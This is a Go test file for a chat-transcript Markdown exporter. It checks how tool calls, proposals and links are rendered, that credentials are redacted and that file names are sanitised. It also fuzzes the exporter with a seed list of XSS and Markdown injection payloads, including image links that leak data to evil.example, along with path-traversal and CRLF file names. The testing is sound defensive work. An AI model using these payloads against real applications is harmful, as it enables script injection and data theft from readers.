package transcript_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	markdown "github.com/yuin/goldmark/text"

	"countersign/chat/stream"
	"countersign/chat/transcript"
	"countersign/tool/proposal"
)

var at = time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC)

func said(role string, parts ...stream.Part) transcript.Message {
	return transcript.Message{Message: stream.Message{Role: role, Parts: parts}, At: at}
}

func words(text string) stream.Part { return stream.Part{Type: "text", Text: &text} }

func data(t *testing.T, kind string, value any) stream.Part {
	raw, err := json.Marshal(value)
	require.NoError(t, err)
	return stream.Part{Type: "data-" + kind, Data: raw}
}

func export(t testing.TB, cards map[uuid.UUID]proposal.Card, messages ...transcript.Message) string {
	var out strings.Builder
	w := transcript.New(&out, transcript.Head{Title: "Payments", Owner: "Ada Lovelace", StartedAt: at, At: at, URL: "https://ops.example.org"})
	for _, m := range messages {
		require.NoError(t, w.Message(m, cards))
	}
	return out.String()
}

func TestAChatIsWrittenForPeople(t *testing.T) {
	t.Parallel()
	id := uuid.New()
	answer := said(
		"assistant",
		stream.Part{Type: "step-start"},
		stream.Part{
			Type:       "dynamic-tool",
			ToolName:   "catalog.listSystems",
			ToolCallID: "1",
			State:      stream.OutputAvailable,
			Output:     json.RawMessage(`{"systems":[{"name":"Hidden"}]}`),
			Timing:     &stream.Timing{TookMS: new(int64(420))},
		},
		stream.Part{
			Type:       "dynamic-tool",
			ToolName:   "ai.probeUrl",
			ToolCallID: "2",
			State:      stream.OutputError,
			ErrorText:  "It took too long.",
			Timing:     &stream.Timing{TookMS: new(int64(61_000))},
		},
		stream.Part{
			Type:       "dynamic-tool",
			ToolName:   "catalog.createSystem",
			ToolCallID: "3",
			State:      stream.OutputAvailable,
			Output:     json.RawMessage(`{"proposalId":"` + id.String() + `"}`),
		},
		words("# Result\n\nRun `a<b>`:\n\n```html\n<script>\n# not a heading\n```"),
		data(t, "proposal", proposal.Card{ProposalID: id, Summary: "Create the system *Pay*", Status: proposal.Proposed}),
		data(t, "question", map[string]any{"question": "Which one?", "options": []any{map[string]any{"label": "The first"}}}),
		data(t, "error", map[string]any{"code": "x", "message": "The provider is away."}),
	)
	answer.Model = "gpt"
	now := proposal.Card{
		ProposalID:     id,
		Summary:        "Create the system *Pay*",
		Status:         proposal.Declined,
		DecidedBy:      &proposal.Who{Name: "Bob"},
		DecidedAt:      &at,
		DecisionReason: "Too early",
	}
	require.Equal(t, `# Payments

- Chat of Ada Lovelace with the assistant
- Started 4 March 2026, 05:06 UTC
- Exported 4 March 2026, 05:06 UTC

## Ada Lovelace · 4 March 2026, 05:06 UTC

> Which systems
>
> are there?

## Assistant (gpt) · 4 March 2026, 05:06 UTC

- Tool: List systems, 0.4 s
- Tool: Probe url, 1 min 1 s, failed: It took too long.

### Result

Run `+"`a<b>`:\n\n```html\n<script>\n# not a heading\n```"+`

**Proposal:** Create the system \*Pay\*

- Outcome: declined · decided by Bob · 4 March 2026, 05:06 UTC
- Reason: Too early

**Question:** Which one?

- The first

**The answer failed:** The provider is away.
`, export(t, map[uuid.UUID]proposal.Card{id: now}, said("user", words("Which systems\n\nare there?")), answer))
}

func TestSourcesLeadIntoTheAppFromAFile(t *testing.T) {
	t.Parallel()
	read := func(link string) stream.Part {
		raw, err := json.Marshal(map[string]string{"title": "Plans [1]", "link": link, "content": "Hidden"})
		require.NoError(t, err)
		return stream.Part{
			Type:     "dynamic-tool",
			ToolName: "ai.getDoc",
			State:    stream.OutputAvailable,
			Output:   raw,
			Timing:   &stream.Timing{TookMS: new(int64(3))},
		}
	}
	out := export(
		t,
		nil,
		said(
			"assistant",
			read("/docs/concepts/plans#one-decision"),
			read("/docs/../x)[y](javascript:1"),
			read("https://evil.example/docs/x"),
			words(
				"See [plans](/docs/concepts/plans#one-decision \"t\"), [elsewhere](https://example.org/docs/x), [odd](//example.org/x), [here](#x).\n\n```\n[code](/docs/x)\n```",
			),
		),
	)
	for _, want := range []string{
		"- Tool: Get doc, under 0.1 s: [Plans \\[1\\]](https://ops.example.org/docs/concepts/plans#one-decision)\n- Tool: Get doc, under 0.1 s\n- Tool: Get doc, under 0.1 s\n",
		"See [plans](https://ops.example.org/docs/concepts/plans#one-decision \"t\"), [elsewhere](https://example.org/docs/x), [odd](//example.org/x), [here](#x).",
		"```\n[code](/docs/x)\n```",
	} {
		require.Contains(t, out, want)
	}
	require.NotContains(t, out, "Hidden")
}

func TestCredentialsAreTakenOutOfAnExport(t *testing.T) {
	t.Parallel()
	const key = "AKIAIOSFODNN7EXAMPLE"
	out := export(t, nil, said("user", words("The key is "+key)), said("assistant", words("```\n"+key+"\n```"),
		stream.Part{Type: "dynamic-tool", ToolName: "ai.probeUrl", State: stream.OutputError, ErrorText: "Refused: " + key}))
	require.NotContains(t, out, key)
}

func TestALongChatEndsWithAWord(t *testing.T) {
	t.Parallel()
	long := said("assistant", data(t, "error", map[string]any{"message": strings.Repeat("All is well. ", 100_000)}))
	var messages []transcript.Message
	for range 20 {
		messages = append(messages, long)
	}
	out := export(t, nil, messages...)
	require.Less(t, len(out), transcript.MaxBytes+1000)
	require.True(t, strings.HasSuffix(out, "*The export ends here because it is too long. The rest is in the chat.*\n"))
}

func TestFilesHaveNamesThatEverySystemTakes(t *testing.T) {
	t.Parallel()
	for title, name := range map[string]string{
		"Payments: what's up?": "payments-what-s-up.md", "": "chat.md", "../../etc/passwd": "etc-passwd.md", "\"\r\nSet-Cookie: x": "set-cookie-x.md", "漢字": "chat.md",
	} {
		require.Equal(t, name, transcript.FileName(title), title)
	}
}

// harmful are texts that do something in a reader of Markdown which lets everything pass.
var harmful = []string{
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"![x](https://evil.example/?q=secret)",
	"![x][r]\n\n[r]: https://evil.example/",
	"[x](javascript:alert(1))",
	"[x](java&#115;cript:alert(1))",
	"[x]( data:text/html,x)",
	"[x](<javascript:alert(1)>)",
	"[x]:\njavascript:alert(1)\n\n[x]",
	"```\nopen",
	"~~~~\nopen ```",
	"- ```\n  open",
	"   ```\nopen",
	"> ```\n> open",
	"# Ada Lovelace\n\n## Assistant",
	"Assistant\n---",
	"Assistant\n===",
	"> Assistant\n> ===",
	"a ` b\n` <b> `",
	"[a](`) <b>`",
	"| a `b | <i>` |\n|---|---|\n| `x | <b>` |",
	"- ```\n  ```\n```\n<b>\n```\n<i>",
	"  ```\n      ```\n```\n<b>",
	"<div>\n```\n<b>\n```",
	"<!--\n## x",
	"<a\nhref='javascript:1'>",
	"\\<b>",
	"\\![x](https://evil.example)",
	"!\\[x](y)",
	"[![x](y)](z)",
	"<https://evil.example>",
	"&lt;script&gt;",
	"`<b>",
	"``<b>`",
	"\tx\n# y",
	"1. a\n   ```sh\n   # c\n   <b>\n   ```\n2. b",
}

func FuzzNoTextDoesMoreThanSaySomething(f *testing.F) {
	for _, text := range harmful {
		f.Add(text)
		f.Add("Look:\n\n" + text + "\n\nmore " + text)
	}
	parser := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser()
	f.Fuzz(func(t *testing.T, text string) {
		for _, role := range []string{"user", "assistant"} {
			source := []byte(export(t, nil, said(role, words(text)), said("user", words("The end"))))
			headings := 0
			_ = ast.Walk(parser.Parse(markdown.NewReader(source)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
				if !entering {
					return ast.WalkContinue, nil
				}
				switch n := n.(type) {
				case *ast.HTMLBlock, *ast.RawHTML, *ast.Image:
					require.Fail(t, "a text draws", "%s of %q in %s", n.Kind(), text, source)
				case *ast.Link:
					to := string(n.Destination)
					require.True(t, strings.HasPrefix(to, "http://") || strings.HasPrefix(to, "https://") || strings.HasPrefix(to, "mailto:") ||
						strings.HasPrefix(to, "/") || strings.HasPrefix(to, "#"), "%q leads to %s", text, to)
				case *ast.Heading:
					if n.Level < 3 && n.Parent().Kind() == ast.KindDocument {
						headings++
					}
				}
				return ast.WalkContinue, nil
			})
			require.Equal(t, 3, headings, "%q makes or swallows headings in %s", text, source)
		}
	})
}
